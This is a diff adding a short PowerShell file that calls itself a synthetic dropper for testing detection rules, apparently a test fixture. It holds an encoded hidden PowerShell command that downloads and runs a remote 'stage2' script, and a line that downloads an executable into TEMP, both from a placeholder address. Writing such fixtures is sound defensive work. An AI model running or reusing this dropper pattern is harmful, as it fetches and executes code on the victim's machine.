@@ -0,0 +1,4 @@
+# Synthetic dropper for sigil's Windows payload rules; never run it.
+$ErrorActionPreference = 'SilentlyContinue'
+powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1AC8AcwB0AGEAZwBlADIALgBwAHMAMQAnACkA
+(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/update.exe', "$env:TEMP\update.exe")